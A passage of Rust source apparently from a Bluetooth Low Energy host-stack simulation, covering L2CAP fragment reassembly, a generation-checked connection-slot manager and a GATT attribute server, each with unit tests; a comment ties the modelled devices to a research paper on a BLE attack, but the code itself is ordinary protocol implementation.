                    return None; // empty keep-alive PDU
                }
                if self.buffer.is_empty() {
                    return None; // continuation without start: drop
                }
                self.buffer.extend_from_slice(payload);
            }
        }
        // Parse the header once available.
        if self.expected.is_none() && self.buffer.len() >= 4 {
            let len = u16::from_le_bytes([self.buffer[0], self.buffer[1]]) as usize;
            self.expected = Some(len + 4);
        }
        if let Some(total) = self.expected {
            if self.buffer.len() >= total {
                let cid = u16::from_le_bytes([self.buffer[2], self.buffer[3]]);
                out.clear();
                out.extend_from_slice(&self.buffer[4..total]);
                self.buffer.clear();
                self.expected = None;
                return Some(cid);
            }
        }
        None
    }

    /// Drops any partial reassembly in progress.
    pub fn reset(&mut self) {
        self.buffer.clear();
        self.expected = None;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn small_sdu_single_fragment_roundtrip() {
        let frags = fragment(CID_ATT, &[1, 2, 3], DEFAULT_LL_PAYLOAD);
        assert_eq!(frags.len(), 1);
        assert_eq!(frags[0].0, Llid::StartOrComplete);
        let sdus = reassemble_iter(&frags);
        assert_eq!(sdus, vec![(CID_ATT, vec![1, 2, 3])]);
    }

    #[test]
    fn large_sdu_fragments_and_reassembles() {
        let sdu: Vec<u8> = (0..200).map(|i| i as u8).collect();
        let frags = fragment(CID_SMP, &sdu, DEFAULT_LL_PAYLOAD);
        assert!(frags.len() > 1);
        assert_eq!(frags[0].0, Llid::StartOrComplete);
        assert!(frags[1..]
            .iter()
            .all(|(l, _)| *l == Llid::ContinuationOrEmpty));
        // Total bytes = SDU + 4-byte header.
        let total: usize = frags.iter().map(|(_, p)| p.len()).sum();
        assert_eq!(total, sdu.len() + 4);
        assert_eq!(reassemble_iter(&frags), vec![(CID_SMP, sdu)]);
    }

    #[test]
    fn back_to_back_sdus() {
        let mut r = Reassembler::new();
        let mut out = Vec::new();
        for sdu in [vec![9u8; 40], vec![7u8; 3], vec![1u8]] {
            for (llid, p) in fragment(CID_ATT, &sdu, 27) {
                out.extend(r.push(llid, &p));
            }
        }
        assert_eq!(out.len(), 3);
        assert_eq!(out[0].1.len(), 40);
        assert_eq!(out[2].1, vec![1]);
    }

    #[test]
    fn empty_pdus_and_orphan_continuations_ignored() {
        let mut r = Reassembler::new();
        assert_eq!(r.push(Llid::ContinuationOrEmpty, &[]), None);
        assert_eq!(r.push(Llid::ContinuationOrEmpty, &[1, 2, 3]), None);
        // A proper SDU still works afterwards.
        let frags = fragment(CID_ATT, &[5], 27);
        assert_eq!(r.push(frags[0].0, &frags[0].1), Some((CID_ATT, vec![5])));
    }

    #[test]
    fn new_start_discards_partial() {
        let mut r = Reassembler::new();
        let big: Vec<u8> = vec![1; 50];
        let frags = fragment(CID_ATT, &big, 27);
        assert!(r.push(frags[0].0, &frags[0].1).is_none());
        // New start interrupts: old partial dropped, new SDU completes.
        let fresh = fragment(CID_ATT, &[9, 9], 27);
        assert_eq!(r.push(fresh[0].0, &fresh[0].1), Some((CID_ATT, vec![9, 9])));
    }

    #[test]
    fn control_pdus_pass_through_unharmed() {
        let mut r = Reassembler::new();
        let big: Vec<u8> = vec![1; 50];
        let frags = fragment(CID_ATT, &big, 27);
        r.push(frags[0].0, &frags[0].1);
        assert_eq!(r.push(Llid::Control, &[0x02, 0x13]), None);
        // Partial reassembly not corrupted by the interleaved control PDU.
        assert_eq!(r.push(frags[1].0, &frags[1].1), Some((CID_ATT, big)));
    }

    #[test]
    fn zero_length_sdu() {
        let frags = fragment(CID_ATT, &[], 27);
        assert_eq!(reassemble_iter(&frags), vec![(CID_ATT, vec![])]);
    }

    #[test]
    #[should_panic(expected = "payload must fit")]
    fn tiny_ll_payload_rejected() {
        let _ = fragment(CID_ATT, &[1], 4);
    }

    #[test]
    fn fragment_into_matches_fragment_bytes() {
        for (sdu_len, ll_payload) in [
            (0usize, 27),
            (3, 27),
            (23, 27),
            (24, 27),
            (200, 27),
            (50, 5),
        ] {
            let sdu: Vec<u8> = (0..sdu_len).map(|i| i as u8).collect();
            let expected = fragment(CID_SMP, &sdu, ll_payload);
            let mut got = Vec::new();
            fragment_into(CID_SMP, &sdu, ll_payload, |llid, prefix, data| {
                let mut frag = prefix.to_vec();
                frag.extend_from_slice(data);
                got.push((llid, frag));
            });
            assert_eq!(got, expected, "sdu_len={sdu_len} ll_payload={ll_payload}");
            // Only the first fragment may carry the header prefix.
            let mut calls = 0;
            fragment_into(CID_SMP, &sdu, ll_payload, |_, prefix, _| {
                assert_eq!(prefix.len(), if calls == 0 { 4 } else { 0 });
                calls += 1;
            });
        }
    }

    #[test]
    fn push_into_reuses_scratch_and_matches_push() {
        let mut r_into = Reassembler::new();
        let mut r_push = Reassembler::new();
        let mut scratch = vec![0xEE; 9]; // stale content must be replaced
        for sdu in [vec![9u8; 40], vec![], vec![1u8, 2, 3]] {
            for (llid, p) in fragment(CID_ATT, &sdu, 27) {
                let via_push = r_push.push(llid, &p);
                let via_into = r_into.push_into(llid, &p, &mut scratch);
                match via_push {
                    Some((cid, bytes)) => {
                        assert_eq!(via_into, Some(cid));
                        assert_eq!(scratch, bytes);
                    }
                    None => assert_eq!(via_into, None),
                }
            }
        }
    }
}
