//! Fixed connection slots: typed handles and the slot lifecycle.
//!
//! A multi-connection node owns a [`ConnectionManager`] with a const-generic
//! number of slots. Each slot walks the lifecycle
//! `Free → Connecting → Established → Disconnecting → Free`; releasing a
//! slot bumps its reuse generation, so a [`ConnHandle`] captured before the
//! release is *stale* and every manager method rejects it. This is the
//! anti-use-after-free discipline embedded real-time stacks (trouble,
//! Zephyr) use in place of heap-allocated connection objects.

use ble_link::DeviceAddress;

/// Lifecycle state of one connection slot.
///
/// Covered by the xtask R4 exhaustive-match rule: consumers must decide
/// explicitly how to treat every state.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SlotState {
    /// Unoccupied; [`ConnectionManager::allocate`] may claim it.
    Free,
    /// Claimed: connection establishment (scan + CONNECT_IND) in flight.
    Connecting,
    /// The Link Layer connection is up.
    Established,
    /// Teardown requested; the slot is released once the link confirms.
    Disconnecting,
}

impl SlotState {
    /// Stable wire name (telemetry / debugging).
    pub fn as_str(self) -> &'static str {
        match self {
            SlotState::Free => "free",
            SlotState::Connecting => "connecting",
            SlotState::Established => "established",
            SlotState::Disconnecting => "disconnecting",
        }
    }
}

/// A typed, generation-checked reference to one connection slot.
///
/// The generation counter makes handles single-use across slot reuse: after
/// [`ConnectionManager::release`], handles minted for the previous occupant
/// stop resolving.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct ConnHandle {
    index: u8,
    generation: u16,
}

impl ConnHandle {
    /// Slot index inside the manager.
    pub fn index(self) -> usize {
        usize::from(self.index)
    }

    /// Reuse generation the handle was minted under.
    pub fn generation(self) -> u16 {
        self.generation
    }

    /// Packs the handle into one `u32` (`index | generation << 8`) for
    /// telemetry fields.
    pub fn to_raw(self) -> u32 {
        u32::from(self.index) | (u32::from(self.generation) << 8)
    }

    /// Inverse of [`ConnHandle::to_raw`].
    pub fn from_raw(raw: u32) -> Self {
        ConnHandle {
            index: (raw & 0xFF) as u8,
            generation: (raw >> 8) as u16,
        }
    }
}

impl std::fmt::Display for ConnHandle {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "conn#{}.{}", self.index, self.generation)
    }
}

#[derive(Debug, Clone, Copy)]
struct Slot {
    state: SlotState,
    generation: u16,
    peer: Option<DeviceAddress>,
}

const FREE_SLOT: Slot = Slot {
    state: SlotState::Free,
    generation: 0,
    peer: None,
};

/// Fixed-slot connection bookkeeping for one node.
///
/// # Example
///
/// ```
/// use ble_host::conn::{ConnectionManager, SlotState};
/// use ble_link::{AddressType, DeviceAddress};
///
/// let mut mgr = ConnectionManager::<2>::new();
/// let peer = DeviceAddress::new([0xB1; 6], AddressType::Public);
/// let h = mgr.allocate(peer).expect("slot free");
/// assert_eq!(mgr.state(h), Some(SlotState::Connecting));
/// mgr.establish(h);
/// mgr.release(h);
/// assert_eq!(mgr.state(h), None, "stale handle no longer resolves");
/// ```
#[derive(Debug)]
pub struct ConnectionManager<const SLOTS: usize> {
    slots: [Slot; SLOTS],
    denials: u64,
}

impl<const SLOTS: usize> Default for ConnectionManager<SLOTS> {
    fn default() -> Self {
        Self::new()
    }
}

impl<const SLOTS: usize> ConnectionManager<SLOTS> {
    /// A manager with every slot free.
    pub fn new() -> Self {
        ConnectionManager {
            slots: [FREE_SLOT; SLOTS],
            denials: 0,
        }
    }

    /// Number of slots (the const parameter, as a value).
    pub fn capacity(&self) -> usize {
        SLOTS
    }

    /// Slots not currently [`SlotState::Free`].
    pub fn occupied(&self) -> usize {
        self.slots
            .iter()
            .filter(|s| s.state != SlotState::Free)
            .count()
    }

    /// Slots in [`SlotState::Established`].
    pub fn established(&self) -> usize {
        self.slots
            .iter()
            .filter(|s| s.state == SlotState::Established)
            .count()
    }

    /// How many [`ConnectionManager::allocate`] calls found no free slot.
    pub fn denials(&self) -> u64 {
        self.denials
    }

    /// Claims the lowest free slot for `peer` (`Free → Connecting`).
    /// Returns `None` — and counts the denial — when every slot is taken.
    pub fn allocate(&mut self, peer: DeviceAddress) -> Option<ConnHandle> {
        let Some(index) = self.slots.iter().position(|s| s.state == SlotState::Free) else {
            self.denials += 1;
            return None;
        };
        let slot = &mut self.slots[index];
        slot.state = SlotState::Connecting;
        slot.peer = Some(peer);
        Some(ConnHandle {
            index: index as u8,
            generation: slot.generation,
        })
    }

    /// Claims a *specific* free slot for `peer` (`Free → Connecting`) — the
    /// multi-connection Central uses this to re-occupy the slot whose
    /// per-slot link state it already owns. Returns `None` — and counts the
    /// denial — when `index` is out of range or the slot is occupied.
    pub fn allocate_at(&mut self, index: usize, peer: DeviceAddress) -> Option<ConnHandle> {
        match self.slots.get_mut(index) {
            Some(slot) if slot.state == SlotState::Free => {
                slot.state = SlotState::Connecting;
                slot.peer = Some(peer);
                Some(ConnHandle {
                    index: index as u8,
                    generation: slot.generation,
                })
            }
            Some(_) | None => {
                self.denials += 1;
                None
            }
        }
    }

    fn slot_mut(&mut self, handle: ConnHandle) -> Option<&mut Slot> {
        self.slots
            .get_mut(handle.index())
            .filter(|s| s.generation == handle.generation && s.state != SlotState::Free)
    }

    fn slot(&self, handle: ConnHandle) -> Option<&Slot> {
        self.slots
            .get(handle.index())
            .filter(|s| s.generation == handle.generation && s.state != SlotState::Free)
    }

    /// `Connecting → Established`. Returns `false` on a stale handle or a
    /// slot not in the connecting state.
    pub fn establish(&mut self, handle: ConnHandle) -> bool {
        match self.slot_mut(handle) {
            Some(slot) if slot.state == SlotState::Connecting => {
                slot.state = SlotState::Established;
                true
            }
            Some(_) | None => false,
        }
    }

    /// `Established → Disconnecting`. Returns `false` on a stale handle or
    /// a slot not established.
    pub fn begin_disconnect(&mut self, handle: ConnHandle) -> bool {
        match self.slot_mut(handle) {
            Some(slot) if slot.state == SlotState::Established => {
                slot.state = SlotState::Disconnecting;
                true
            }
            Some(_) | None => false,
        }
    }

    /// Frees the slot from any occupied state and bumps the generation, so
    /// every handle minted for the old occupant goes stale. Returns `false`
    /// if the handle was already stale.
    pub fn release(&mut self, handle: ConnHandle) -> bool {
        match self.slot_mut(handle) {
            Some(slot) => {
                slot.state = SlotState::Free;
                slot.peer = None;
                slot.generation = slot.generation.wrapping_add(1);
                true
            }
            None => false,
        }
    }

    /// The slot's state, or `None` for a stale handle.
    pub fn state(&self, handle: ConnHandle) -> Option<SlotState> {
        self.slot(handle).map(|s| s.state)
    }

    /// The peer the slot was allocated for, or `None` for a stale handle.
    pub fn peer(&self, handle: ConnHandle) -> Option<DeviceAddress> {
        self.slot(handle).and_then(|s| s.peer)
    }

    /// Whether the handle still refers to the slot's current occupant.
    pub fn is_current(&self, handle: ConnHandle) -> bool {
        self.slot(handle).is_some()
    }

    /// The current-generation handle occupying `index`, if any.
    pub fn handle_at(&self, index: usize) -> Option<ConnHandle> {
        self.slots
            .get(index)
            .filter(|s| s.state != SlotState::Free)
            .map(|s| ConnHandle {
                index: index as u8,
                generation: s.generation,
            })
    }

    /// Iterates occupied slots as `(handle, state, peer)`.
    pub fn iter(
        &self,
    ) -> impl Iterator<Item = (ConnHandle, SlotState, Option<DeviceAddress>)> + '_ {
        self.slots
            .iter()
            .enumerate()
            .filter(|(_, s)| s.state != SlotState::Free)
            .map(|(i, s)| {
                (
                    ConnHandle {
                        index: i as u8,
                        generation: s.generation,
                    },
                    s.state,
                    s.peer,
                )
            })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ble_link::AddressType;

    fn peer(seed: u8) -> DeviceAddress {
        DeviceAddress::new([seed; 6], AddressType::Public)
    }

    #[test]
    fn lifecycle_walks_free_connecting_established_disconnecting() {
        let mut mgr = ConnectionManager::<2>::new();
        let h = mgr.allocate(peer(1)).unwrap();
        assert_eq!(mgr.state(h), Some(SlotState::Connecting));
        assert!(mgr.establish(h));
        assert_eq!(mgr.state(h), Some(SlotState::Established));
        assert_eq!(mgr.established(), 1);
        assert!(mgr.begin_disconnect(h));
        assert_eq!(mgr.state(h), Some(SlotState::Disconnecting));
        assert!(mgr.release(h));
        assert_eq!(mgr.occupied(), 0);
    }

    #[test]
    fn illegal_transitions_are_rejected() {
        let mut mgr = ConnectionManager::<1>::new();
        let h = mgr.allocate(peer(1)).unwrap();
        assert!(!mgr.begin_disconnect(h), "connecting cannot disconnect");
        assert!(mgr.establish(h));
        assert!(!mgr.establish(h), "already established");
    }

    #[test]
    fn exhausted_slots_deny_and_count() {
        let mut mgr = ConnectionManager::<2>::new();
        let _a = mgr.allocate(peer(1)).unwrap();
        let _b = mgr.allocate(peer(2)).unwrap();
        assert!(mgr.allocate(peer(3)).is_none());
        assert_eq!(mgr.denials(), 1);
    }

    #[test]
    fn stale_handle_from_released_slot_is_rejected() {
        let mut mgr = ConnectionManager::<1>::new();
        let old = mgr.allocate(peer(1)).unwrap();
        assert!(mgr.establish(old));
        assert!(mgr.release(old));

        // The slot is reused for a new peer: same index, new generation.
        let new = mgr.allocate(peer(2)).unwrap();
        assert_eq!(new.index(), old.index());
        assert_ne!(new.generation(), old.generation());

        // Every manager method rejects the stale handle while accepting the
        // current one.
        assert_eq!(mgr.state(old), None);
        assert_eq!(mgr.peer(old), None);
        assert!(!mgr.is_current(old));
        assert!(!mgr.establish(old));
        assert!(!mgr.begin_disconnect(old));
        assert!(!mgr.release(old));
        assert_eq!(mgr.state(new), Some(SlotState::Connecting));
        assert_eq!(mgr.peer(new), Some(peer(2)));

        // The stale release attempt must not have freed the new occupant.
        assert_eq!(mgr.occupied(), 1);
    }

    #[test]
    fn raw_round_trip_and_display() {
        let mut mgr = ConnectionManager::<3>::new();
        let h = mgr.allocate(peer(9)).unwrap();
        mgr.release(h);
        let h2 = mgr.allocate(peer(9)).unwrap();
        assert_eq!(ConnHandle::from_raw(h2.to_raw()), h2);
        assert_eq!(format!("{h2}"), "conn#0.1");
    }

    #[test]
    fn allocate_at_claims_the_named_slot_only_when_free() {
        let mut mgr = ConnectionManager::<3>::new();
        let h = mgr.allocate_at(2, peer(1)).unwrap();
        assert_eq!(h.index(), 2);
        assert!(mgr.allocate_at(2, peer(2)).is_none(), "slot 2 occupied");
        assert!(mgr.allocate_at(9, peer(2)).is_none(), "out of range");
        assert_eq!(mgr.denials(), 2);
        mgr.release(h);
        let h2 = mgr.allocate_at(2, peer(2)).unwrap();
        assert_eq!(h2.index(), 2);
        assert_ne!(h2.generation(), h.generation(), "generation bumped");
    }

    #[test]
    fn handle_at_tracks_current_generation() {
        let mut mgr = ConnectionManager::<2>::new();
        let h = mgr.allocate(peer(1)).unwrap();
        assert_eq!(mgr.handle_at(0), Some(h));
        assert_eq!(mgr.handle_at(1), None);
        mgr.release(h);
        assert_eq!(mgr.handle_at(0), None);
    }
}
