//! GATT: an attribute-database server with service/characteristic builders.
//!
//! The victim devices of the paper (lightbulb, keyfob, smartwatch) each
//! expose a GATT profile; the attack triggers their features by writing to
//! characteristics in exactly the way a legitimate Central would.

use crate::att::{error_code, AttPdu};
use crate::uuid::Uuid;

/// Characteristic property flags (subset of the GATT property bitfield).
pub mod props {
    /// Value can be read.
    pub const READ: u8 = 0x02;
    /// Value can be written without response.
    pub const WRITE_WITHOUT_RESPONSE: u8 = 0x04;
    /// Value can be written.
    pub const WRITE: u8 = 0x08;
    /// Value can be notified.
    pub const NOTIFY: u8 = 0x10;
}

/// One attribute in the database.
#[derive(Debug, Clone)]
struct Attribute {
    handle: u16,
    attribute_type: Uuid,
    value: Vec<u8>,
    readable: bool,
    writable: bool,
    /// For characteristic value attributes: the characteristic's UUID.
    char_uuid: Option<Uuid>,
}

/// Something the server did in response to a request, for the application
/// to react to (e.g. a lightbulb turning its LED on).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum GattEvent {
    /// A characteristic value was written (request or command).
    Written {
        /// The value attribute's handle.
        handle: u16,
        /// The new value.
        value: Vec<u8>,
        /// Whether the write was an acknowledged Write Request.
        acknowledged: bool,
    },
    /// A characteristic value was read.
    Read {
        /// The value attribute's handle.
        handle: u16,
    },
}

/// An ATT/GATT server: attribute database plus request execution.
///
/// # Example
///
/// ```
/// use ble_host::{GattServer, Uuid};
/// use ble_host::gatt::props;
///
/// let mut server = GattServer::new();
/// let bulb_state = server
///     .service(Uuid::short(0xFF00))
///     .characteristic(Uuid::short(0xFF01), props::READ | props::WRITE, vec![0])
///     .finish();
/// assert!(server.value(bulb_state).is_some());
/// ```
#[derive(Debug, Default)]
pub struct GattServer {
    attributes: Vec<Attribute>,
    next_handle: u16,
    mtu: u16,
}

impl GattServer {
    /// Creates an empty server (first handle 0x0001, default MTU 23).
    pub fn new() -> Self {
        GattServer {
            attributes: Vec::new(),
            next_handle: 1,
            mtu: 23,
        }
    }

    /// Starts declaring a primary service.
    pub fn service(&mut self, uuid: Uuid) -> ServiceBuilder<'_> {
        let handle = self.allocate();
        self.attributes.push(Attribute {
            handle,
            attribute_type: Uuid::PRIMARY_SERVICE,
            value: uuid.to_bytes(),
            readable: true,
            writable: false,
            char_uuid: None,
        });
        ServiceBuilder {
            server: self,
            last_value_handle: 0,
        }
    }

    fn allocate(&mut self) -> u16 {
        let h = self.next_handle;
        self.next_handle += 1;
        h
    }

    /// The negotiated ATT MTU.
    pub fn mtu(&self) -> u16 {
        self.mtu
    }

    /// Looks an attribute up by handle. `attributes` is kept sorted by
    /// handle ([`GattServer::allocate`] is monotonic and every push happens
    /// in allocation order), so this is a binary search rather than the
    /// linear scan the server shipped with.
    fn find(&self, handle: u16) -> Option<&Attribute> {
        self.attributes
            .binary_search_by_key(&handle, |a| a.handle)
            .ok()
            .map(|i| &self.attributes[i])
    }

    fn find_mut(&mut self, handle: u16) -> Option<&mut Attribute> {
        self.attributes
            .binary_search_by_key(&handle, |a| a.handle)
            .ok()
            .map(|i| &mut self.attributes[i])
    }

    /// Current value of an attribute.
    pub fn value(&self, handle: u16) -> Option<&[u8]> {
        self.find(handle).map(|a| a.value.as_slice())
    }

    /// Replaces an attribute's value (application-side update).
    pub fn set_value(&mut self, handle: u16, value: Vec<u8>) {
        self.set_value_from_slice(handle, &value);
    }

    /// Replaces an attribute's value from a borrowed slice, reusing the
    /// attribute's existing buffer capacity — the steady-state write path
    /// stays off the heap once the value buffer has grown to size.
    pub fn set_value_from_slice(&mut self, handle: u16, value: &[u8]) {
        if let Some(a) = self.find_mut(handle) {
            a.value.clear();
            a.value.extend_from_slice(value);
        }
    }

    /// Applies an unacknowledged Write Command without building an
    /// [`AttPdu`]: returns whether the value was written (handle exists and
    /// is writable) so the caller can report the application event. The
    /// semantics mirror the `WriteCommand` arm of
    /// [`GattServer::handle_att`]; commands never produce a response.
    pub fn apply_write_command(&mut self, handle: u16, value: &[u8]) -> bool {
        match self.find_mut(handle) {
            Some(attr) if attr.writable => {
                attr.value.clear();
                attr.value.extend_from_slice(value);
                true
            }
            Some(_) | None => false,
        }
    }

    /// Finds the value handle of a characteristic by UUID.
    pub fn handle_of(&self, char_uuid: Uuid) -> Option<u16> {
        self.attributes
            .iter()
            .find(|a| a.char_uuid == Some(char_uuid))
            .map(|a| a.handle)
    }

    /// Executes one ATT PDU against the database. Returns the response to
    /// send (if any) and application events.
    pub fn handle_att(&mut self, pdu: &AttPdu) -> (Option<AttPdu>, Vec<GattEvent>) {
        let mut events = Vec::new();
        let response = match pdu {
            AttPdu::ExchangeMtuRequest { mtu } => {
                self.mtu = (*mtu).clamp(23, 247);
                Some(AttPdu::ExchangeMtuResponse { mtu: self.mtu })
            }
            AttPdu::ReadRequest { handle } => match self.find(*handle) {
                Some(attr) if attr.readable => {
                    events.push(GattEvent::Read { handle: *handle });
                    let limit = usize::from(self.mtu) - 1;
                    let mut value = attr.value.clone();
                    value.truncate(limit);
                    Some(AttPdu::ReadResponse { value })
                }
                Some(_) => Some(AttPdu::ErrorResponse {
                    request_opcode: pdu.opcode(),
                    handle: *handle,
                    code: error_code::READ_NOT_PERMITTED,
                }),
                None => Some(AttPdu::ErrorResponse {
                    request_opcode: pdu.opcode(),
                    handle: *handle,
                    code: error_code::INVALID_HANDLE,
                }),
            },
            AttPdu::WriteRequest { handle, value } | AttPdu::WriteCommand { handle, value } => {
                let acknowledged = matches!(pdu, AttPdu::WriteRequest { .. });
                match self.find_mut(*handle) {
                    Some(attr) if attr.writable => {
                        attr.value.clear();
                        attr.value.extend_from_slice(value);
                        events.push(GattEvent::Written {
                            handle: *handle,
                            value: value.clone(),
                            acknowledged,
                        });
                        acknowledged.then_some(AttPdu::WriteResponse)
                    }
                    Some(_) => acknowledged.then_some(AttPdu::ErrorResponse {
                        request_opcode: pdu.opcode(),
                        handle: *handle,
                        code: error_code::WRITE_NOT_PERMITTED,
                    }),
                    None => acknowledged.then_some(AttPdu::ErrorResponse {
                        request_opcode: pdu.opcode(),
                        handle: *handle,
                        code: error_code::INVALID_HANDLE,
                    }),
                }
            }
            AttPdu::ReadByGroupTypeRequest {
                start,
                end,
                group_type,
            } => Some(self.read_by_group_type(*start, *end, *group_type)),
            AttPdu::ReadByTypeRequest {
                start,
                end,
                attribute_type,
            } => Some(self.read_by_type(*start, *end, *attribute_type)),
            // Server side ignores responses/notifications.
            _ => None,
        };
        (response, events)
    }

    /// Primary-service discovery: groups run from a service declaration to
    /// just before the next one.
    fn read_by_group_type(&self, start: u16, end: u16, group_type: Uuid) -> AttPdu {
        if group_type != Uuid::PRIMARY_SERVICE {
            return AttPdu::ErrorResponse {
                request_opcode: 0x10,
                handle: start,
                code: error_code::REQUEST_NOT_SUPPORTED,
            };
        }
        let services: Vec<(u16, u16, Vec<u8>)> = self
            .attributes
            .iter()
            .enumerate()
            .filter(|(_, a)| {
                a.attribute_type == Uuid::PRIMARY_SERVICE && a.handle >= start && a.handle <= end
            })
            .map(|(i, a)| {
                let group_end = self.attributes[i + 1..]
                    .iter()
                    .find(|b| b.attribute_type == Uuid::PRIMARY_SERVICE)
                    .map(|b| b.handle - 1)
                    .unwrap_or(0xFFFF);
                (a.handle, group_end, a.value.clone())
            })
            .collect();
        let Some(first) = services.first() else {
            return AttPdu::ErrorResponse {
                request_opcode: 0x10,
                handle: start,
                code: error_code::ATTRIBUTE_NOT_FOUND,
            };
        };
        // All entries in one response must share a value length.
        let vlen = first.2.len();
        let entry_len = (4 + vlen) as u8;
        let mut data = Vec::new();
        for (h, e, v) in services.iter().filter(|(_, _, v)| v.len() == vlen) {
            if data.len() + usize::from(entry_len) > usize::from(self.mtu) - 2 {
                break;
            }
            data.extend_from_slice(&h.to_le_bytes());
            data.extend_from_slice(&e.to_le_bytes());
            data.extend_from_slice(v);
        }
        AttPdu::ReadByGroupTypeResponse { entry_len, data }
    }

    fn read_by_type(&self, start: u16, end: u16, attribute_type: Uuid) -> AttPdu {
        let matches: Vec<&Attribute> = self
            .attributes
            .iter()
            .filter(|a| {
                a.attribute_type == attribute_type
                    && a.handle >= start
                    && a.handle <= end
                    && a.readable
            })
            .collect();
        let Some(first) = matches.first() else {
            return AttPdu::ErrorResponse {
                request_opcode: 0x08,
                handle: start,
                code: error_code::ATTRIBUTE_NOT_FOUND,
            };
        };
        let vlen = first.value.len();
        let entry_len = (2 + vlen) as u8;
        let mut data = Vec::new();
        for a in matches.iter().filter(|a| a.value.len() == vlen) {
            if data.len() + usize::from(entry_len) > usize::from(self.mtu) - 2 {
                break;
            }
            data.extend_from_slice(&a.handle.to_le_bytes());
            data.extend_from_slice(&a.value);
        }
        AttPdu::ReadByTypeResponse { entry_len, data }
    }
}

/// Builder adding characteristics to a service.
pub struct ServiceBuilder<'a> {
    server: &'a mut GattServer,
    last_value_handle: u16,
}

impl<'a> ServiceBuilder<'a> {
    /// Adds a characteristic; returns the builder for chaining. The value
    /// handle of the *last* characteristic added is returned by
    /// [`ServiceBuilder::finish`]; intermediate handles can be fetched via
    /// [`GattServer::handle_of`].
    pub fn characteristic(mut self, uuid: Uuid, properties: u8, initial: Vec<u8>) -> Self {
        let decl_handle = self.server.allocate();
        let value_handle = self.server.allocate();
        // Characteristic declaration: properties, value handle, UUID.
        let mut decl = vec![properties];
        decl.extend_from_slice(&value_handle.to_le_bytes());
        decl.extend_from_slice(&uuid.to_bytes());
        self.server.attributes.push(Attribute {
            handle: decl_handle,
            attribute_type: Uuid::CHARACTERISTIC,
            value: decl,
            readable: true,
            writable: false,
            char_uuid: None,
        });
        self.server.attributes.push(Attribute {
            handle: value_handle,
            attribute_type: uuid,
            value: initial,
            readable: properties & props::READ != 0,
            writable: properties & (props::WRITE | props::WRITE_WITHOUT_RESPONSE) != 0,
            char_uuid: Some(uuid),
        });
        if properties & props::NOTIFY != 0 {
            let cccd_handle = self.server.allocate();
            self.server.attributes.push(Attribute {
                handle: cccd_handle,
                attribute_type: Uuid::CCCD,
                value: vec![0, 0],
                readable: true,
                writable: true,
                char_uuid: None,
            });
        }
        self.last_value_handle = value_handle;
        self
    }

    /// Ends the service; returns the value handle of the last
    /// characteristic added (0 if none).
    pub fn finish(self) -> u16 {
        self.last_value_handle
    }
}

/// Alias kept for API symmetry with common GATT libraries.
pub type CharacteristicBuilder<'a> = ServiceBuilder<'a>;

#[cfg(test)]
mod tests {
    use super::*;

    fn demo_server() -> (GattServer, u16, u16) {
        let mut server = GattServer::new();
        let name = server
            .service(Uuid::GAP_SERVICE)
            .characteristic(Uuid::DEVICE_NAME, props::READ, b"Bulb".to_vec())
            .finish();
        let control = server
            .service(Uuid::short(0xFFE0))
            .characteristic(
                Uuid::short(0xFFE1),
                props::WRITE | props::WRITE_WITHOUT_RESPONSE | props::READ,
                vec![0],
            )
            .finish();
        (server, name, control)
    }

    #[test]
    fn read_request_returns_value() {
        let (mut server, name, _) = demo_server();
        let (rsp, events) = server.handle_att(&AttPdu::ReadRequest { handle: name });
        assert_eq!(
            rsp,
            Some(AttPdu::ReadResponse {
                value: b"Bulb".to_vec()
            })
        );
        assert_eq!(events, vec![GattEvent::Read { handle: name }]);
    }

    #[test]
    fn write_request_updates_value_and_reports_event() {
        let (mut server, _, control) = demo_server();
        let (rsp, events) = server.handle_att(&AttPdu::WriteRequest {
            handle: control,
            value: vec![1, 2, 3],
        });
        assert_eq!(rsp, Some(AttPdu::WriteResponse));
        assert_eq!(
            events,
            vec![GattEvent::Written {
                handle: control,
                value: vec![1, 2, 3],
                acknowledged: true
            }]
        );
        assert_eq!(server.value(control), Some(&[1u8, 2, 3][..]));
    }

    #[test]
    fn write_command_is_silent() {
        let (mut server, _, control) = demo_server();
        let (rsp, events) = server.handle_att(&AttPdu::WriteCommand {
            handle: control,
            value: vec![9],
        });
        assert_eq!(rsp, None);
        assert_eq!(events.len(), 1);
        assert_eq!(server.value(control), Some(&[9u8][..]));
    }

    #[test]
    fn invalid_handle_errors() {
        let (mut server, _, _) = demo_server();
        let (rsp, events) = server.handle_att(&AttPdu::ReadRequest { handle: 0x1234 });
        assert_eq!(
            rsp,
            Some(AttPdu::ErrorResponse {
                request_opcode: 0x0A,
                handle: 0x1234,
                code: error_code::INVALID_HANDLE
            })
        );
        assert!(events.is_empty());
    }

    #[test]
    fn permissions_enforced() {
        let (mut server, name, _) = demo_server();
        // Device name is read-only.
        let (rsp, events) = server.handle_att(&AttPdu::WriteRequest {
            handle: name,
            value: vec![1],
        });
        assert_eq!(
            rsp,
            Some(AttPdu::ErrorResponse {
                request_opcode: 0x12,
                handle: name,
                code: error_code::WRITE_NOT_PERMITTED
            })
        );
        assert!(events.is_empty());
        // The characteristic *declaration* is not writable either.
        let (rsp, _) = server.handle_att(&AttPdu::WriteRequest {
            handle: name - 1,
            value: vec![1],
        });
        assert!(matches!(rsp, Some(AttPdu::ErrorResponse { .. })));
    }

    #[test]
    fn service_discovery_lists_both_services() {
        let (mut server, _, _) = demo_server();
        let (rsp, _) = server.handle_att(&AttPdu::ReadByGroupTypeRequest {
            start: 1,
            end: 0xFFFF,
            group_type: Uuid::PRIMARY_SERVICE,
        });
        let Some(AttPdu::ReadByGroupTypeResponse { entry_len, data }) = rsp else {
            panic!("expected group response, got {rsp:?}");
        };
        assert_eq!(entry_len, 6);
        assert_eq!(data.len() / 6, 2);
        // First service starts at handle 1; last group extends to 0xFFFF.
        assert_eq!(u16::from_le_bytes([data[0], data[1]]), 1);
        let last = &data[6..];
        assert_eq!(u16::from_le_bytes([last[2], last[3]]), 0xFFFF);
    }

    #[test]
    fn characteristic_discovery_by_type() {
        let (mut server, name, _) = demo_server();
        let (rsp, _) = server.handle_att(&AttPdu::ReadByTypeRequest {
            start: 1,
            end: 0xFFFF,
            attribute_type: Uuid::DEVICE_NAME,
        });
        let Some(AttPdu::ReadByTypeResponse { data, .. }) = rsp else {
            panic!("expected read-by-type response");
        };
